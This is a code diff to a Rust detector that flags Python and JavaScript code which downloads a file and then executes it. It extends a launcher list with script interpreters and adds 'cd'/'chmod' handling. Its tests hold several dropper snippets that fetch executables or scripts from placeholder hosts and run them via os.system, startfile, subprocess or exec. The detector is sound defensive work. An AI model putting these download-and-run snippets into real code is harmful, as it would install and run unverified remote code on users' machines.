@@ -86,6 +86,21 @@ const LAUNCHERS: &[&str] = &[
     "./",
     "-c",
     "exec",
+    // An interpreter given a saved script runs it as surely as `./script` does.
+    "python",
+    "python3",
+    "python.exe",
+    "pythonw",
+    "pythonw.exe",
+    "py",
+    "py.exe",
+    // Not `sys.executable`: development scripts bootstrap pip that way (`get-pip.py` into a temp file).
+    "node",
+    "node.exe",
+    "perl",
+    "ruby",
+    "wscript",
+    "cscript",
 ];
 /// Parts of an expression that build a directory in front of the file name.
 const PATH_BUILDERS: &[&str] = &[
@@ -180,7 +195,18 @@ fn runs_as_program(args: &str, key: &Key) -> bool {
                 )
         })
         .filter(|w| !w.is_empty());
+    // `cd DIR && ./x`: the directory changed to is not the program; nor is `chmod`'s mode (`+x` reaches
+    // here as `x`, since `+` splits words).
+    let mut after_cd = false;
+    let mut after_chmod = false;
     for word in words {
+        if std::mem::take(&mut after_cd) {
+            continue;
+        }
+        if after_chmod && is_mode(word) {
+            continue;
+        }
+        after_chmod = false;
         let named = match key {
             Key::File(_) => names_file(word, key),
             Key::Name(name) => word == name || word.starts_with(&format!("{name}.")),
@@ -189,6 +215,14 @@ fn runs_as_program(args: &str, key: &Key) -> bool {
             return true;
         }
         let lower = word.to_ascii_lowercase();
+        if lower == "cd" {
+            after_cd = true;
+            continue;
+        }
+        if lower == "chmod" {
+            after_chmod = true;
+            continue;
+        }
         let skip = LAUNCHERS.contains(&lower.as_str())
             || PATH_BUILDERS.iter().any(|b| lower.contains(b))
             || lower.contains('=')
@@ -198,6 +232,16 @@ fn runs_as_program(args: &str, key: &Key) -> bool {
         }
     }
     false
+}
+
+/// A `chmod` mode word: octal digits or `ugoa`/`rwxXst` letters with their operators.
+fn is_mode(word: &str) -> bool {
+    word.chars().all(|c| {
+        matches!(
+            c,
+            '0'..='7' | 'u' | 'g' | 'o' | 'a' | 'r' | 'w' | 'x' | 'X' | 's' | 't' | '=' | '-'
+        )
+    })
 }
 
 #[cfg(test)]
@@ -219,39 +263,64 @@ mod tests {
 
     #[test]
     fn windows_droppers_fire() {
-        let start = "import os, requests\nr = requests.get('https://cdn.example.invalid/tool.exe')\nwith open('C:\\\\Users\\\\Public\\\\helper.exe', 'wb') as f:\n    f.write(r.content)\nos.system('start cmd /c start C:\\\\Users\\\\Public\\\\helper.exe')\n";
+        let start = "import os, requests\nr = requests.get('https://cdn.example.invalid/tool.exe')\nwith open('C:\\\\Users\\\\Public\\\\helper.exe', 'wb') as f:\n    f.write(r.content)\nos.system('start cmd /c start C:\\\\Users\\\\Public\\\\helper.exe')";
         assert_eq!(fired(start, Language::Python, "pkg/main.py").len(), 1);
-        let startfile = "import os, urllib.request\nurllib.request.urlretrieve('https://cdn.example.invalid/u.scr', 'update.scr')\nos.startfile(os.getcwd() + '\\\\update.scr')\n";
+        let startfile = "import os, urllib.request\nurllib.request.urlretrieve('https://cdn.example.invalid/u.scr', 'update.scr')\nos.startfile(os.getcwd() + '\\\\update.scr')";
         assert_eq!(fired(startfile, Language::Python, "setup.py").len(), 1);
-        let alias = "from subprocess import run\nimport urllib.request\nurllib.request.urlretrieve(u, 'svc.exe')\nrun(['start', 'svc.exe'], shell=True)\n";
+        let alias = "from subprocess import run\nimport urllib.request\nurllib.request.urlretrieve(u, 'svc.exe')\nrun(['start', 'svc.exe'], shell=True)";
         assert_eq!(fired(alias, Language::Python, "setup.py").len(), 1);
-        let temp = "import requests, tempfile, subprocess\nr = requests.get(u)\nwith tempfile.NamedTemporaryFile(delete=False) as t:\n    t.write(r.content)\n    exe_path = t.name\nsubprocess.call([exe_path])\n";
+        let temp = "import requests, tempfile, subprocess\nr = requests.get(u)\nwith tempfile.NamedTemporaryFile(delete=False) as t:\n    t.write(r.content)\n    exe_path = t.name\nsubprocess.call([exe_path])";
         assert_eq!(fired(temp, Language::Python, "pkg/run.py").len(), 1);
     }
 
     #[test]
     fn path_variables_and_javascript_fire() {
         // The taint engine follows `p` itself (TNT003); the same file spelled out again is ours.
-        let tainted = "import os, requests, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.bin')\ndata = requests.get(url).content\nopen(p, 'wb').write(data)\nos.system('start ' + p)\n";
+        let tainted = "import os, requests, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.bin')\ndata = requests.get(url).content\nopen(p, 'wb').write(data)\nos.system('start ' + p)";
         assert!(fired(tainted, Language::Python, "pkg/__init__.py").is_empty());
-        let py = "import os, requests, subprocess\ndest = os.path.join(os.environ['APPDATA'], 'svc.exe')\nwith open(dest, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.Popen([os.path.join(os.environ['APPDATA'], 'svc.exe')])\n";
+        let py = "import os, requests, subprocess\ndest = os.path.join(os.environ['APPDATA'], 'svc.exe')\nwith open(dest, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.Popen([os.path.join(os.environ['APPDATA'], 'svc.exe')])";
         assert_eq!(fired(py, Language::Python, "pkg/__init__.py").len(), 1);
-        let js = "const cp = require('child_process');\nconst fs = require('fs');\nasync function go(dest) {\n  const res = await fetch(u);\n  fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));\n  cp.execFile(dest);\n}\n";
+        let js = "const cp = require('child_process');\nconst fs = require('fs');\nasync function go(dest) {\n  const res = await fetch(u);\n  fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));\n  cp.execFile(dest);\n}";
         assert!(
             fired(js, Language::Javascript, "index.js").is_empty(),
             "TNT003 reports it"
         );
-        let start = "const { exec } = require('child_process');\nconst fs = require('fs');\nhttps.get(u, (res) => {\n  res.pipe(fs.createWriteStream('C:\\\\Temp\\\\svc.exe')).on('finish', () => exec('start C:\\\\Temp\\\\svc.exe'));\n});\n";
+        let start = "const { exec } = require('child_process');\nconst fs = require('fs');\nhttps.get(u, (res) => {\n  res.pipe(fs.createWriteStream('C:\\\\Temp\\\\svc.exe')).on('finish', () => exec('start C:\\\\Temp\\\\svc.exe'));\n});";
         assert_eq!(fired(start, Language::Javascript, "index.js").len(), 1);
     }
 
     #[test]
     fn saved_but_not_run_hashed_or_used_as_an_argument_is_quiet() {
-        let saved = "import requests\nr = requests.get(u)\nwith open('report.pdf', 'wb') as f:\n    f.write(r.content)\nprint('saved')\n";
+        let saved = "import requests\nr = requests.get(u)\nwith open('report.pdf', 'wb') as f:\n    f.write(r.content)\nprint('saved')";
         assert!(fired(saved, Language::Python, "cli.py").is_empty());
-        let argument = "import subprocess, requests\nr = requests.get(u)\nopen('config.json', 'wb').write(r.content)\nsubprocess.run(['git', 'add', 'config.json'])\n";
+        let argument = "import subprocess, requests\nr = requests.get(u)\nopen('config.json', 'wb').write(r.content)\nsubprocess.run(['git', 'add', 'config.json'])";
         assert!(fired(argument, Language::Python, "sync.py").is_empty());
-        let pinned = "import hashlib, subprocess, urllib.request\nurllib.request.urlretrieve(u, 'tool')\nif hashlib.sha256(open('tool','rb').read()).hexdigest() != PIN: raise SystemExit\nsubprocess.run(['./tool', '--version'])\n";
+        let pinned = "import hashlib, subprocess, urllib.request\nurllib.request.urlretrieve(u, 'tool')\nif hashlib.sha256(open('tool','rb').read()).hexdigest() != PIN: raise SystemExit\nsubprocess.run(['./tool', '--version'])";
         assert!(fired(pinned, Language::Python, "build.py").is_empty());
+    }
+
+    #[test]
+    fn a_saved_script_run_by_an_interpreter_or_after_cd_fires() {
+        let script = "import requests, os\nwith open('stage.py', 'wb') as f:\n    f.write(requests.get('https://files.example.invalid/s.py').content)\nos.system('python stage.py')";
+        assert_eq!(fired(script, Language::Python, "pkg/fetch.py").len(), 1);
+        let cd = "import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://files.example.invalid/agent').content)\nsystem('cd /tmp && chmod +x agent && ./agent')";
+        assert_eq!(fired(cd, Language::Python, "setup.py").len(), 1);
+    }
+
+    #[test]
+    fn a_saved_file_an_interpreter_only_reads_as_an_argument_is_quiet() {
+        // The interpreter runs a module of its own (`-m`); the saved file is its input.
+        let module = "import requests, os\nopen('reqs.txt', 'wb').write(requests.get(u).content)\nos.system('python -m pip install -r reqs.txt')";
+        assert!(fired(module, Language::Python, "tools/sync.py").is_empty());
+        let cd = "import requests, os\nopen('/tmp/data.csv', 'wb').write(requests.get(u).content)\nos.system('cd /tmp && python report.py data.csv')";
+        assert!(fired(cd, Language::Python, "tools/report.py").is_empty());
+        // A maintainer's script that bootstraps pip into the running interpreter.
+        let bootstrap = "import os, sys, tempfile\nfrom urllib.request import urlopen\nwith tempfile.NamedTemporaryFile(suffix='.py') as f:\n    f.write(urlopen(PIP_BOOTSTRAP).read())\n    f.flush()\n    os.system(f'{sys.executable} {f.name} --user --upgrade')\n";
+        assert!(fired(
+            bootstrap,
+            Language::Python,
+            "scripts/internal/install_pip.py"
+        )
+        .is_empty());
     }
 }
